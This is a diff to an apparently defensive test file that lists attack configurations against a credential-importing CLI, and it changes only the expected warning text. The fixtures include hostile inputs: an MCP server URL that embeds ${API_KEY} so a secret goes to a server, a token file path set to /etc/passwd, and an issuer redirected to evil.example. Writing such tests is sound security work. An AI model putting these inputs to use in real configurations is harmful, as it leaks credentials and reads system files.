@@ -44,7 +44,7 @@ export const configurations: Attack[] = [
     files: ({ origin }) => ({ '.mcp.json': { mcpServers: { victim: { type: 'http', url: `${origin}/\${API_KEY}/mcp` } } } }),
     exit: 0,
     changesStore: true,
-    says: /victim will be told what is in the variable API_KEY/,
+    says: /victim contains \$\{API_KEY\}: its value is sent to that server/,
   },
   {
     source: 'CWE-522',
@@ -62,7 +62,7 @@ export const configurations: Attack[] = [
     stdin: imported({ issuer: 'https://evil.example', flow: 'workload', workload_token_file: '/etc/passwd' }),
     exit: 0,
     changesStore: true,
-    says: /cannot be renewed here: it is renewed by the flow “workload”, which acts without a person/,
+    says: /cannot be renewed on this machine: it is renewed by the flow “workload”, which runs without the user/,
     leaves: /^(?![^]*(workload|passwd|token_endpoint))/,
   },
   {
@@ -72,7 +72,7 @@ export const configurations: Attack[] = [
     stdin: imported({}, { trusted_issuer: 'https://bank.example', trusted_issuer_at: 'https://evil.example' }),
     exit: 0,
     changesStore: true,
-    says: /Not taken[^“]*“--trust-issuer https:\/\/bank\.example/,
+    says: /Options not imported[^“]*“--trust-issuer https:\/\/bank\.example/,
     leaves: /^(?![^]*bank\.example)/,
   },
   {
@@ -139,7 +139,7 @@ export const configurations: Attack[] = [
     stdin: imported({}, { login_options: { resource: 'https://bank.example', authorize_params: { audience: 'https://bank.example' } } }),
     exit: 0,
     changesStore: true,
-    says: /Not taken[^“]*“--resource https:\/\/bank\.example/,
+    says: /Options not imported[^“]*“--resource https:\/\/bank\.example/,
     leaves: /^(?![^]*bank\.example)/,
   },
   {
